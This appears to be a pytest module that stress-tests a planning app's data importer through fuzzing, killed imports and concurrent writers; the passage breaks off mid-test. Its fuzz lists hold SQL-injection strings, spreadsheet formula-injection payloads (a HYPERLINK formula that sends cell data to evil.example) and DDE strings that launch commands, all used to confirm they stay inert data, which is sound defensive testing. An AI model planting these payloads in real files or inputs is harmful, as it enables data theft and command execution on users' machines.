"""Issue 7, robustness: bad files, a killed import and many writers at once.

* Fuzzing (hypothesis): whatever the file holds (random bytes, wrong encodings, empty or
  header-only files, NaN / inf / huge / negative numbers, SQL in SKU names, spreadsheet
  formulas, random column names), ``import_file`` returns a report and never raises; a report
  with errors leaves every table exactly as it was (row counts and a hash of every row); an
  accepted file is all there. SQL stays data; formulas come back escaped in CSV and Excel
  exports.
* A real import process killed with SIGKILL at several moments leaves the database exactly as
  before or exactly as after a complete import (a reference run), and it opens afterwards.
* Ten and more threads saving scenarios and consensus overrides while another process imports
  sales and refreshes the forecast on the same file: no lost write, no corruption, no lock
  error, and a clear ``ConflictError`` for the loser of a race on the same scenario.

Every test works on real DuckDB files (copies of the session's sample database).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import random
import shutil
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sop_core.data import db
from sop_core.data.errors import ConflictError, DatabaseBusyError
from sop_core.data.export import FORMULA_START, export_table, table_header
from sop_core.data.importer import SPECS, ImportReport, import_file
from sop_core.demand import consensus
from sop_core.demand.plan_base import load_plan_base
from sop_core.forecast.runs import latest_run
from sop_core.meeting import decisions
from sop_core.scenario.model import Lever, Scenario
from sop_core.scenario.store import create_scenario, load_scenario, save_scenario

ROOT = Path(__file__).resolve().parent.parent
WORKER = Path(__file__).resolve().parent / "import_worker.py"

# Rows are hashed as a whole; the import log's time and id differ between two runs of the
# same import, so only what the import wrote into it is compared.
ROW_HASH = {
    "import_log": "hash(x.author, x.table_name, x.file_name, x.file_sha256, x.rows_in_file, "
    "x.rows_added, x.rows_replaced, x.products_created, x.notices)",
    # Who, what and the counts: not the moment, which differs between two runs of one import.
    "audit_log": "hash(x.who, x.action, x.object, x.scope, x.before)",
}

FUZZ = settings(
    deadline=None,
    derandomize=True,  # the same examples on every run: CI stays reproducible
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def fingerprint(path: Path) -> dict[str, tuple[int, str]]:
    """Every table's row count and the sum of a hash of each of its rows."""
    with db.connect(path, timeout=60) as con:
        tables = [
            row[0]
            for row in con.execute(
                "SELECT table_name FROM information_schema.tables WHERE table_schema = 'main' "
                "AND table_type = 'BASE TABLE' ORDER BY table_name"
            ).fetchall()
        ]
        union = " UNION ALL ".join(
            f"SELECT '{t}', count(*), coalesce(sum({ROW_HASH.get(t, 'hash(x)')}), 0)::VARCHAR "
            f'FROM "{t}" x'
            for t in tables
        )
        return {name: (count, digest) for name, count, digest in con.execute(union).fetchall()}


def changed_tables(before: dict, after: dict) -> set[str]:
    return {t for t in before.keys() | after.keys() if before.get(t) != after.get(t)}


def import_and_check(
    path: Path, table: str, source: Path, **options: object
) -> tuple[ImportReport, dict, dict]:
    """Import ``source`` and check the properties every import must have, whatever the file:
    a report (no exception), nothing written on an error or a dry run, everything on
    success."""
    before = fingerprint(path)
    try:
        report = import_file(path, table, source, **options)
    except Exception as error:
        pytest.fail(
            f"import_file raised {type(error).__name__} instead of reporting it: {error}\n"
            f"file {source.name}: {source.read_bytes()[:300]!r}"
        )
    assert isinstance(report, ImportReport)
    summary = report.summary()
    assert isinstance(summary, str) and summary
    for issue in report.issues:
        assert issue.severity in ("error", "warning", "notice"), issue
        assert issue.text() and "Traceback" not in issue.text()
    after = fingerprint(path)
    if not report.ok or options.get("dry_run"):
        assert not report.written
        assert after == before, (
            f"nothing should be written, but {sorted(changed_tables(before, after))} changed; "
            f"issues: {[i.text() for i in report.issues]}"
        )
        return report, before, after
    assert report.written and report.import_id is not None
    allowed = {table, "import_log", "audit_log"}
    if table == "sales_history":
        allowed |= {"products", "channels"}
        assert after["products"][0] == before["products"][0] + report.products_created
    assert changed_tables(before, after) <= allowed
    assert after["import_log"][0] == before["import_log"][0] + 1
    assert after["audit_log"][0] == before["audit_log"][0] + 1  # the import, in the trail
    assert after[table][0] == before[table][0] + report.rows_added
    assert report.rows_added + report.rows_replaced == report.rows_to_write > 0
    return report, before, after


def write_csv(
    path: Path, header: list[str], rows: list[list[str]], encoding: str = "utf-8", sep=","
) -> Path:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=sep, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding, errors="replace"))
    return path


def sample_keys(path: Path) -> dict[str, list[str]]:
    with db.connect(path) as con:
        return {
            "sku": [r[0] for r in con.execute("SELECT sku FROM products ORDER BY sku").fetchall()],
            "line": [
                r[0] for r in con.execute("SELECT line FROM production_lines ORDER BY 1").fetchall()
            ],
            "channel": [r[0] for r in con.execute("SELECT channel FROM channels").fetchall()],
        }


# --- values a planner's file (or an attacker's) may hold ---------------------------------------

SQL_TEXT = [
    "x'); DROP TABLE products; --",
    "'; DELETE FROM sales_history; --",
    'Robert"); DROP TABLE sales_history; --',
    "1' OR '1'='1",
    "a' || (SELECT count(*) FROM products) || '",
]
FORMULA_TEXT = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
]
ODD_TEXT = [
    "",
    " ",
    "NULL",
    "null",
    "NaN",
    "None",
    "Crème ñandú",
    "日本語の品目",
    "rocket 🚀",
    "x" * 201,
    "tab\there",
    'quote"inside',
    "comma,inside",
    "semi;colon",
    "new\nline",
    "'",
    "\\",
    "-",
    "=",
]
NUMBER_TEXT = [
    "0",
    "1",
    "2.5",
    "0.3",
    "-1",
    "-0",
    "NaN",
    "nan",
    "inf",
    "-inf",
    "Infinity",
    "1e12",
    "1e13",
    "1e308",
    "1e400",
    "1,5",
    "1 000",
    "5%",
    " 3 ",
    "",
    "abc",
    "=1+1",
]
DATE_TEXT = [
    "2026-11-23",
    "2026-11-16",
    "2026-11-25",
    "2024-01-01",
    "23/11/2026",
    "11/23/2026",
    "23.11.2026",
    "2026/11/23",
    "23-11-2026",
    "2026-02-30",
    "2026-13-01",
    "0001-01-01",
    "9999-12-31",
    "2026-11-23 10:00",
    "2026-11-23T00:00:00",
    "20261123",
    "yesterday",
    "",
]

texts = st.one_of(st.sampled_from(SQL_TEXT + FORMULA_TEXT + ODD_TEXT), st.text(max_size=12))
numbers = st.one_of(
    st.sampled_from(NUMBER_TEXT),
    st.floats().map(repr),
    st.integers(-(2**40), 2**40).map(str),
)
whole_numbers = st.one_of(
    st.sampled_from(["0", "1", "-1", "1.5", "", "abc", "NaN", "inf", "2147483648"]),
    st.integers(-(2**33), 2**33).map(str),
)
dates = st.one_of(
    st.sampled_from(DATE_TEXT),
    st.dates(dt.date(1990, 1, 1), dt.date(2030, 12, 31)).map(dt.date.isoformat),
    st.text(max_size=8),
)


def header_name(draw, name: str, aliases: tuple[str, ...]) -> str:
    chosen = draw(st.sampled_from([name, *aliases]))
    style = draw(st.sampled_from(["same", "upper", "title", "spaced"]))
    return {
        "same": chosen,
        "upper": chosen.upper(),
        "title": chosen.replace("_", " ").title(),
        "spaced": f" {chosen} ",
    }[style]


@st.composite
def input_files(draw, keys: dict[str, list[str]]):
    """(table, header, rows, mapping): a file for one of the importer's tables, mostly
    plausible and sometimes wrong in every way a planner's export can be."""
    table = draw(st.sampled_from(sorted(SPECS)))
    spec = SPECS[table]
    columns: list[tuple[str, st.SearchStrategy]] = []
    for column in spec.columns:
        if not draw(
            st.sampled_from([True, True, True, False] if column.required else [True, False])
        ):
            continue
        if column.kind == "date":
            values = dates
        elif column.kind == "number":
            values = numbers
        elif column.kind == "integer":
            values = whole_numbers
        elif column.refers_to == "products" or column.name == "sku":
            values = st.one_of(st.sampled_from(keys["sku"][:6]), texts)
        elif column.refers_to == "production_lines" or column.name == "line":
            values = st.one_of(st.sampled_from(keys["line"]), texts)
        elif column.name == "channel":
            values = st.one_of(st.sampled_from(keys["channel"]), texts)
        elif column.name == "status":
            values = st.one_of(st.sampled_from(["past", "planned", "active"]), texts)
        else:
            values = texts
        columns.append((header_name(draw, column.name, column.aliases), values))
    for _ in range(draw(st.integers(0, 2))):  # columns the table does not know
        columns.append((draw(st.text(max_size=10)), texts))
    columns = draw(st.permutations(columns))
    n_rows = draw(st.integers(0, 6))
    rows = [[draw(values) for _, values in columns] for _ in range(n_rows)]
    mapping = {}
    if columns and draw(st.integers(0, 9)) == 0:
        target = draw(st.sampled_from([c.name for c in spec.columns] + ["nonsense"]))
        mapping[target] = draw(st.sampled_from([name for name, _ in columns] + ["missing"]))
    return table, [name for name, _ in columns], rows, mapping


def encode_file(draw, folder: Path, header: list[str], rows: list[list[str]]) -> tuple[Path, str]:
    """Write the table as a file a planner could upload: CSV in one of several encodings
    (or with bytes that are not UTF-8 spliced in), Excel or Parquet. Returns it and how it
    was written."""
    kind = draw(
        st.sampled_from(
            ["utf-8"] * 4
            + ["utf-8-sig", "utf-16", "latin-1", "cp1252", "broken", "xlsx", "parquet"]
        )
    )
    if kind == "xlsx":
        # openpyxl cannot store control characters; a leading "=" becomes a formula (that
        # the importer then reads as an empty cell).
        def clean(value: str) -> str:
            return "".join(ch for ch in value if ch >= " " or ch in "\t\n")

        frame = pd.DataFrame([[clean(v) for v in row] for row in rows])
        frame = frame.reindex(columns=range(len(header)))
        frame.columns = [clean(h) or f"col{i}" for i, h in enumerate(header)]
        path = folder / "upload.xlsx"
        frame.to_excel(path, index=False)
        return path, kind
    if kind == "parquet":
        path = folder / "upload.parquet"
        names: list[str] = []
        for i, name in enumerate(header):  # Parquet wants unique, non-empty column names
            name = name or f"col{i}"
            while name in names:
                name += "_"
            names.append(name)
        if names:
            pd.DataFrame(rows, columns=names, dtype=object).astype(str).to_parquet(path)
        else:
            path.write_bytes(b"")
        return path, kind
    sep = draw(st.sampled_from([",", ",", ";", "\t", "|"]))
    path = folder / draw(st.sampled_from(["upload.csv", "upload.CSV", "upload.txt", "upload.tsv"]))
    write_csv(path, header, rows, "utf-8" if kind == "broken" else kind, sep)
    if kind == "broken":  # UTF-8 with bytes that are not UTF-8 spliced in
        data = bytearray(path.read_bytes())
        for _ in range(draw(st.integers(1, 3))):
            at = draw(st.integers(0, len(data)))
            data[at:at] = draw(st.sampled_from([b"\xff", b"\xc3", b"\xe2\x82", b"\x00", b"\r"]))
        path.write_bytes(bytes(data))
    return path, kind


# --- 1. fuzzing ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def keys(sample_db_master: Path) -> dict[str, list[str]]:
    return sample_keys(sample_db_master)


@pytest.mark.slow
@settings(FUZZ, max_examples=35)
@given(data=st.data())
def test_fuzz_any_file_for_any_table_is_reported_and_all_or_nothing(
    sample_db: Path, keys: dict[str, list[str]], tmp_path: Path, data: st.DataObject
):
    table, header, rows, mapping = data.draw(input_files(keys), label="file")
    source, kind = encode_file(data.draw, tmp_path, header, rows)
    dry_run = data.draw(st.sampled_from([False] * 7 + [True]), label="dry_run")
    report, _, _ = import_and_check(sample_db, table, source, mapping=mapping, dry_run=dry_run)
    sku_column = report.columns.get("sku")
    if report.written and kind not in ("broken", "xlsx", "parquet") and sku_column in header:
        # SQL and formulas in SKU names of an accepted file are stored as they were written.
        at = header.index(sku_column)
        special = {row[at] for row in rows} & set(SQL_TEXT + FORMULA_TEXT)
        with db.connect(sample_db) as con:
            for sku in special:
                stored = con.execute(
                    f"SELECT count(*) FROM {table} WHERE sku = ?", [sku]
                ).fetchone()[0]
                assert stored >= 1, sku


@pytest.mark.slow
@settings(FUZZ, max_examples=20)
@given(
    data=st.one_of(
        st.binary(max_size=300),
        st.builds(
            lambda head, junk: head + junk,
            st.sampled_from([b"week,sku,units\n", b"\xff\xfew\x00e\x00", b"PK\x03\x04", b"PAR1"]),
            st.binary(max_size=200),
        ),
    ),
    name=st.sampled_from(
        ["f.csv", "f.txt", "f.tsv", "f.xlsx", "f.xls", "f.parquet", "f.json", "f"]
    ),
    table=st.sampled_from(sorted(SPECS)),
)
def test_fuzz_random_bytes_never_raise_and_never_write(
    sample_db: Path, tmp_path: Path, data: bytes, name: str, table: str
):
    source = tmp_path / name
    source.write_bytes(data)
    import_and_check(sample_db, table, source)


def test_empty_header_only_and_bad_numbers_are_errors_and_write_nothing(
    sample_db: Path, tmp_path: Path
):
    cases = {
        "empty": b"",
        "blank": b" \n\n \n",
        "header only": b"week,sku,units\n",
        "header without newline": b"week,sku,units",
        "NaN": b"week,sku,units\n2026-11-23,SKN-0001,NaN\n",
        "inf": b"week,sku,units\n2026-11-23,SKN-0001,inf\n",
        "-inf": b"week,sku,units\n2026-11-23,SKN-0001,-inf\n",
        "huge": b"week,sku,units\n2026-11-23,SKN-0001,1e300\n",
        "beyond double": b"week,sku,units\n2026-11-23,SKN-0001,1e400\n",
        "negative": b"week,sku,units\n2026-11-23,SKN-0001,-5\n",
        "negative price": b"week,sku,units,price\n2026-11-23,SKN-0001,5,-1\n",
        "one bad row among good ones": b"week,sku,units\n2026-11-23,SKN-0001,5\n"
        b"2026-11-23,SKN-0002,-5\n2026-11-23,SKN-0003,5\n",
    }
    for label, content in cases.items():
        source = tmp_path / "sales.csv"
        source.write_bytes(content)
        report, _, _ = import_and_check(sample_db, "sales_history", source)
        assert not report.ok and not report.written, label
        assert report.errors and report.errors[0].text(), label


@pytest.mark.parametrize(
    ("encoding", "notice"),
    [("utf-8", None), ("utf-8-sig", None), ("utf-16", "utf-16"), ("latin-1", "latin-1")],
)
def test_other_encodings_are_read_as_the_text_they_hold(
    sample_db: Path, tmp_path: Path, encoding: str, notice: str | None
):
    source = write_csv(
        tmp_path / "sales.csv",
        ["week", "item", "qty"],
        [["2026-11-23", "Crème brûlée", "5"], ["2026-11-23", "Sérum", "3"]],
        encoding,
    )
    report, _, _ = import_and_check(sample_db, "sales_history", source)
    assert report.ok and report.written, [i.text() for i in report.issues]
    if notice:
        assert any(notice in i.message for i in report.issues if i.severity == "notice")
    with db.connect(sample_db) as con:
        stored = con.execute(
            "SELECT sku, units FROM sales_history WHERE week = DATE '2026-11-23' AND sku IN "
            "('Crème brûlée', 'Sérum') ORDER BY sku"
        ).fetchall()
    assert stored == [("Crème brûlée", 5.0), ("Sérum", 3.0)]


def test_invalid_utf8_is_reported_or_read_never_raised(sample_db: Path, tmp_path: Path):
    source = tmp_path / "sales.csv"
    source.write_bytes(
        "week,sku,units\n2026-11-23,Crème,5\n".encode() + b"2026-11-23,S\xe9rum\xff\xfe,3\n"
    )
    import_and_check(sample_db, "sales_history", source)


def test_sql_in_names_is_stored_as_data_and_never_run(sample_db: Path, tmp_path: Path):
    source = write_csv(
        tmp_path / "sales.csv",
        ["week", "sku", "channel", "units"],
        [["2026-11-23", sku, "retail", str(i + 1)] for i, sku in enumerate(SQL_TEXT)]
        + [["2026-11-23", "SKN-0001", "x'); DROP TABLE channels; --", "4"]],
    )
    report, before, after = import_and_check(
        sample_db, "sales_history", source, file_name="it's'); DROP TABLE import_log; --.csv"
    )
    assert report.ok and report.written, [i.text() for i in report.issues]
    assert report.products_created == len(SQL_TEXT)
    with db.connect(sample_db) as con:
        for i, sku in enumerate(SQL_TEXT):
            assert con.execute(
                "SELECT units FROM sales_history WHERE sku = ? AND week = DATE '2026-11-23'",
                [sku],
            ).fetchall() == [(float(i + 1),)]
            assert con.execute("SELECT name FROM products WHERE sku = ?", [sku]).fetchone() == (
                sku,
            )
        assert con.execute(
            "SELECT count(*) FROM channels WHERE channel = 'x''); DROP TABLE channels; --'"
        ).fetchone() == (1,)
        assert con.execute("SELECT file_name FROM import_log").fetchall() == [
            ("it's'); DROP TABLE import_log; --.csv",)
        ]
    # Nothing else was touched: every table is still there, with the rows it had.
    assert set(after) == set(before)
    assert after["products"][0] == before["products"][0] + len(SQL_TEXT)
    assert after["channels"][0] == before["channels"][0] + 1

    # A column name with SQL in it is only a name.
    odd = write_csv(
        tmp_path / "odd.csv",
        ["week", 'qty"); DROP TABLE sales_history; --', "sku"],
        [["2026-11-30", "7", "SKN-0001"]],
    )
    report, _, _ = import_and_check(
        sample_db,
        "sales_history",
        odd,
        mapping={"units": 'qty"); DROP TABLE sales_history; --'},
    )
    assert report.ok and report.written, [i.text() for i in report.issues]


def escaped(value: str) -> str:
    return "'" + value if value[:1] in FORMULA_START else value


def assert_exports_escape(
    path: Path, table: str, columns: list[str], folder: Path, excel: bool = True
) -> int:
    """Export ``table`` to CSV and Excel; every text that a spreadsheet would run comes back
    with a leading apostrophe and no cell is a formula; Parquet keeps the text as it is.
    Returns the rows checked."""
    with db.connect(path) as con:
        stored = con.execute(f"SELECT {', '.join(columns)} FROM {table}").fetchall()
    expected = sorted(
        (tuple(escaped(v) if isinstance(v, str) else v for v in r) for r in stored), key=repr
    )

    export_table(path, table, folder / "out.csv")
    with open(folder / "out.csv", newline="", encoding="utf-8") as handle:
        read = list(csv.DictReader(handle))
    assert sorted((tuple(r[c] for c in columns) for r in read), key=repr) == sorted(
        (tuple("" if v is None else v for v in r) for r in expected), key=repr
    )

    export_table(path, table, folder / "out.parquet")  # kept as they are, for programs
    raw = pd.read_parquet(folder / "out.parquet")[columns]
    assert sorted(map(tuple, raw.itertuples(index=False)), key=repr) == sorted(stored, key=repr)

    if not excel:  # (an Excel export of 18,000 rows takes seconds)
        return len(stored)
    export_table(path, table, folder / "out.xlsx")
    sheet = openpyxl.load_workbook(folder / "out.xlsx").active
    head = [cell.value for cell in sheet[1]]
    columns = [table_header(name) for name in columns]  # headers in words
    found = []
    for row in sheet.iter_rows(min_row=2):
        cells = {head[i]: cell for i, cell in enumerate(row)}
        for name in columns:
            assert cells[name].data_type != "f", (
                f"{name} exported as a formula: {cells[name].value}"
            )
        found.append(tuple(cells[c].value for c in columns))
    assert sorted(found, key=repr) == expected

    return len(stored)


def test_formulas_in_names_come_back_escaped_in_csv_and_excel(sample_db: Path, tmp_path: Path):
    formulas = [*FORMULA_TEXT, "\t=1+1", "@cmd"]
    source = write_csv(
        tmp_path / "sales.csv",
        ["week", "sku", "units"],
        [["2026-11-23", f, "1"] for f in formulas],
    )
    report, _, _ = import_and_check(sample_db, "sales_history", source)
    assert report.ok and report.written, [i.text() for i in report.issues]
    assert report.products_created == len(formulas)
    assert assert_exports_escape(sample_db, "products", ["sku", "name", "family"], tmp_path) > 40
    assert (
        assert_exports_escape(sample_db, "sales_history", ["sku", "channel"], tmp_path, excel=False)
        > 18_000
    )
    with open(tmp_path / "out.csv", encoding="utf-8") as handle:
        assert "'=HYPERLINK(" in handle.read()


# Control characters are left out: the Excel export drops them, so the text would not come
# back as it went in (test_an_excel_export_of_text_with_control_characters_does_not_raise).
visible = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc")), min_size=0, max_size=15
).map(lambda s: s.strip())


@pytest.mark.slow
@settings(FUZZ, max_examples=8)
@given(
    names=st.lists(
        st.tuples(st.sampled_from([*FORMULA_START[:4], "", "a"]), visible), min_size=1, max_size=5
    )
)
def test_fuzz_formula_like_product_names_are_escaped_in_exports(
    sample_db: Path, tmp_path: Path, names: list[tuple[str, str]]
):
    rows = [
        [f"{start}FZ{i}", (start + text).strip() or f"name {i}", "9.5"]
        for i, (start, text) in enumerate(names)
    ]
    source = write_csv(tmp_path / "products.csv", ["sku", "name", "list_price"], rows)
    report, _, _ = import_and_check(sample_db, "products", source)
    assert report.ok and report.written, [i.text() for i in report.issues]
    with db.connect(sample_db) as con:
        for sku, name, _ in rows:
            assert con.execute("SELECT name FROM products WHERE sku = ?", [sku]).fetchone() == (
                name,
            )
    assert_exports_escape(sample_db, "products", ["sku", "name"], tmp_path)


def test_a_whole_number_too_big_for_the_column_is_reported_not_raised(
    sample_db: Path, tmp_path: Path
):
    source = write_csv(
        tmp_path / "actuals.csv",
        ["week", "line", "sku", "units_produced", "batches", "hours_used"],
        [["2026-11-23", "N1", "SKN-0001", "5", "2147483648", "1"]],
    )
    before = fingerprint(sample_db)
    try:
        report = import_file(sample_db, "production_actuals", source)
    finally:
        assert fingerprint(sample_db) == before  # it did roll back: nothing half-written
    assert not report.ok and "batches" in report.errors[0].text()


def test_a_fraction_in_a_whole_number_column_is_an_error(sample_db: Path, tmp_path: Path):
    source = write_csv(
        tmp_path / "actuals.csv",
        ["week", "line", "sku", "units_produced", "batches", "hours_used"],
        [["2026-11-23", "N1", "SKN-0001", "5", "1.5", "1"]],
    )
    report, _, _ = import_and_check(sample_db, "production_actuals", source)
    assert not report.ok and "batches is not a whole number" in report.errors[0].text()


def test_a_utf16_big_endian_file_is_read_as_the_text_it_holds(sample_db: Path, tmp_path: Path):
    source = tmp_path / "sales.csv"
    source.write_bytes(b"\xfe\xff" + "week,sku,units\n2026-11-23,Crème,5\n".encode("utf-16-be"))
    report, _, _ = import_and_check(sample_db, "sales_history", source)
    assert report.ok and report.written, [i.text() for i in report.issues]


def test_an_excel_export_of_text_with_control_characters_does_not_raise(
    sample_db: Path, tmp_path: Path
):
    source = write_csv(
        tmp_path / "products.csv", ["sku", "name", "list_price"], [["CC1", "bell\x07", "1"]]
    )
    report, _, _ = import_and_check(sample_db, "products", source)
    assert report.written
    export_table(sample_db, "products", tmp_path / "products.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "products.xlsx").active
    assert any(row[0] == "CC1" for row in sheet.iter_rows(min_row=2, values_only=True))


# --- 2. a killed import ------------------------------------------------------------------------

BIG_WEEKS = 160  # x (40 sample SKUs + 300 new ones) x 3 channels = 163,200 rows, ~7 MB


@pytest.fixture(scope="module")
def big_sales(sample_db_master: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A weekly sales file that replaces the sample's rows of every SKU and channel over its
    weeks and adds 300 new SKUs."""
    path = tmp_path_factory.mktemp("big") / "sales.csv"
    con = duckdb.connect()
    try:
        con.execute(f"ATTACH '{sample_db_master}' AS sample (READ_ONLY)")
        con.execute(
            f"""
            COPY (
                SELECT (DATE '2022-03-07' + CAST(7 * w AS INTEGER)) AS week, s.sku,
                       c.channel, CAST((w * 31 + s.n * 17) % 500 AS DOUBLE) AS units,
                       9.5 + (w % 7) AS price
                FROM range({BIG_WEEKS}) weeks(w),
                     (SELECT sku, row_number() OVER (ORDER BY sku) AS n FROM (
                          SELECT sku FROM sample.products
                          UNION ALL SELECT 'NEW-' || lpad(CAST(i AS VARCHAR), 5, '0')
                          FROM range(300) r(i))) s,
                     (SELECT channel FROM sample.channels) c
            ) TO '{path}' (HEADER)
            """
        )
    finally:
        con.close()
    return path


def start_worker(database: Path, source: Path, pause_at: str | None = None) -> subprocess.Popen:
    command = [sys.executable, str(WORKER), str(database), str(source)]
    if pause_at:
        command += ["--pause-at", pause_at]
    return subprocess.Popen(
        command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )


def kill_when(process: subprocess.Popen, marker: str, delay: float) -> list[str]:
    """Read the worker's lines until one contains ``marker``, wait ``delay`` seconds and
    SIGKILL it; returns the lines seen (the last says how far it got)."""
    seen = []
    for line in process.stdout:
        seen.append(line.strip())
        if marker in line:
            break
    else:
        raise AssertionError(f"the worker ended before {marker!r}: {seen}\n{process.stderr.read()}")
    time.sleep(delay)
    process.send_signal(signal.SIGKILL)
    process.wait(timeout=30)
    assert process.returncode == -signal.SIGKILL, (process.returncode, seen)
    return seen


# moment -> (the worker's line to wait for, seconds after it, where it pauses, allowed states)
KILLS = {
    "while checking": ("Checking every value", 0.2, None, {"before"}),
    "rows deleted, none inserted": ("paused", 0.0, "deleted", {"before"}),
    "rows inserted, not committed": ("paused", 0.0, "inserted", {"before"}),
    "committed, not checkpointed": ("paused", 0.0, "committed", {"after"}),
    "0.5 s into the write": ("Writing", 0.5, None, {"before", "after"}),
}


@pytest.mark.slow
def test_a_killed_import_leaves_the_database_as_before_or_as_after(
    sample_db_master: Path, big_sales: Path, tmp_path: Path
):
    before = fingerprint(sample_db_master)

    # The reference: the same import, run to the end. It runs alongside the killed ones (each
    # on its own copy), to keep the test short.
    reference = tmp_path / "reference.duckdb"
    shutil.copy(sample_db_master, reference)
    processes = {"reference": start_worker(reference, big_sales)}
    copies = {}
    for label, (_, _, pause_at, _) in KILLS.items():
        copies[label] = tmp_path / f"{len(copies)}.duckdb"
        shutil.copy(sample_db_master, copies[label])
        processes[label] = start_worker(copies[label], big_sales, pause_at)

    seen: dict[str, list[str]] = {}
    errors: list[BaseException] = []

    def kill(label: str) -> None:
        try:
            marker, delay, _, _ = KILLS[label]
            seen[label] = kill_when(processes[label], marker, delay)
        except BaseException as error:  # reported by the main thread
            errors.append(error)

    killers = [threading.Thread(target=kill, args=(label,)) for label in KILLS]
    for thread in killers:
        thread.start()
    out, err = processes["reference"].communicate(timeout=120)
    for thread in killers:
        thread.join(timeout=120)
    for process in processes.values():
        if process.poll() is None:  # only after a failure above
            process.kill()
        process.wait()
        process.stdout.close()
        process.stderr.close()
    assert not errors, errors
    assert processes["reference"].returncode == 0, err
    last = next(line for line in reversed(out.splitlines()) if "done " in line)
    done = json.loads(last[last.index("{") :])
    assert done["ok"] and done["written"], done
    rows = BIG_WEEKS * 340 * 3
    assert done["rows_added"] + done["rows_replaced"] == rows and done["rows_replaced"] > 5_000
    after = fingerprint(reference)
    assert after["sales_history"][0] == before["sales_history"][0] + done["rows_added"]
    assert changed_tables(before, after) == {
        "sales_history",
        "products",
        "import_log",
        "audit_log",
    }

    outcomes = {}
    for label, (_, _, _, allowed) in KILLS.items():
        # Opening it again (which replays or drops the write-ahead log) must just work.
        state = fingerprint(copies[label])
        outcome = "before" if state == before else "after" if state == after else "in between"
        outcomes[label] = (outcome, seen[label][-1])
        assert outcome in allowed, (
            f"killed {label} (last line {outcomes[label][1]!r}): the database is {outcome}; "
            f"tables that differ from before: {sorted(changed_tables(before, state))}, "
            f"from after: {sorted(changed_tables(after, state))}"
        )
        with db.connect(copies[label]) as con:  # and it takes the next import as usual
            assert con.execute("SELECT count(*) FROM sales_history").fetchone()[0] > 0
    print(outcomes)


# --- 3. concurrency ---------------------------------------------------------------------------


@pytest.mark.slow
def test_threads_and_another_process_write_at_once_without_losing_anything(
    forecast_db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.delenv("SOP_LOCK_TIMEOUT", raising=False)  # the default wait, as users get
    path = tmp_path / "shared.duckdb"
    shutil.copy(forecast_db, path)
    with db.connect(path) as con:
        run = latest_run(con)
        cycle = con.execute(
            "SELECT history_end FROM forecast_runs WHERE run_id = ?", [run]
        ).fetchone()[0]
        base = load_plan_base(con, run)
        skus = list(base.skus[:3])
        imports_before = con.execute("SELECT count(*) FROM import_log").fetchone()[0]
        runs_before = con.execute("SELECT count(*) FROM forecast_runs").fetchone()[0]
    first_week = base.weeks[1].astype(dt.date)
    last_week = base.weeks[4].astype(dt.date)

    # The other process: import a sales file (changing three SKUs), then refresh the forecast.
    sales = write_csv(
        tmp_path / "sales.csv",
        ["week", "sku", "channel", "units"],
        [
            [str(cycle - dt.timedelta(weeks=w)), sku, "retail", str(100 + w)]
            for sku in skus
            for w in range(8)
        ],
    )
    other: dict[str, subprocess.CompletedProcess] = {}
    timeline: dict[str, float] = {}  # seconds from the start to the end of each command

    # Count the waits for a lock held by the other process (the retry inside db._open).
    waits = []
    real_open = db._open

    def counting_open(path, timeout, on_wait):
        def told(message: str, seconds: float) -> None:
            waits.append(seconds)
            if on_wait is not None:
                on_wait(message, seconds)

        return real_open(path, timeout, told)

    monkeypatch.setattr(db, "_open", counting_open)

    def other_process() -> None:
        for name, args in [
            ("import", ["import", "--db", str(path), "--table", "sales_history", str(sales)]),
            ("forecast", ["forecast", "--db", str(path), "--jobs", "1", "--quiet"]),
        ]:
            other[name] = subprocess.run(
                [sys.executable, "-m", "sop_core", *args],
                cwd=ROOT,
                capture_output=True,
                text=True,
                timeout=120,
            )
            timeline[name] = time.monotonic() - started

    lock = threading.Lock()
    saved: dict[str, tuple[int, float]] = {}  # scenario -> (version, the change it holds)
    overrides: dict[int, str] = {}  # override id -> reason
    failures: list[str] = []
    contests: list[tuple[str, str]] = []  # (winner's outcome, loser's outcome)
    decided: dict[int, str] = {}  # decision id -> text
    ops = {"scenario saves": 0, "overrides": 0, "decisions": 0}
    subprocess_thread = threading.Thread(target=other_process)
    started = time.monotonic()
    deadline = started + 25

    def user(number: int) -> None:
        rng = random.Random(number)
        done = 0
        while (done < 6 or subprocess_thread.is_alive()) and time.monotonic() < deadline:
            time.sleep(rng.uniform(0.1, 0.4))  # a planner's pause between two clicks
            try:
                if done % 3 == 2:
                    text = f"user {number} decides {done}"
                    item = decisions.add_item(path, "decision", text, f"owner{number}", "x")
                    with lock:
                        decided[item] = text
                        ops["decisions"] += 1
                elif done % 3 == 0:
                    name = f"user{number}-plan{done}"
                    change = round(rng.uniform(-0.1, 0.1), 4)
                    stored = create_scenario(
                        path, Scenario(name, [Lever("campaign", change=change)]), f"u{number}", run
                    )
                    with lock:
                        saved[name] = (stored.version, change)
                    change = round(change + 0.01, 4)
                    stored = save_scenario(
                        path, stored, Scenario(name, [Lever("campaign", change=change)]), "x", run
                    )
                    with lock:
                        saved[name] = (stored.version, change)
                        ops["scenario saves"] += 2
                else:
                    reason = f"user {number} call {done}"
                    change = consensus.Override(
                        "sku",
                        str(base.skus[rng.randrange(len(base.skus))]),
                        first_week,
                        last_week,
                        "percent",
                        rng.choice([-5.0, 5.0, 10.0]),
                        reason,
                        f"user{number}",
                    )
                    number_id = consensus.add_override(
                        path, base, base.statistical_by_channel, change, run_id=run, cycle=cycle
                    ).override_id
                    with lock:
                        overrides[number_id] = reason
                        ops["overrides"] += 1
            except DatabaseBusyError as error:
                with lock:
                    failures.append(f"user {number}: lock error shown to the user: {error}")
            except Exception as error:
                with lock:
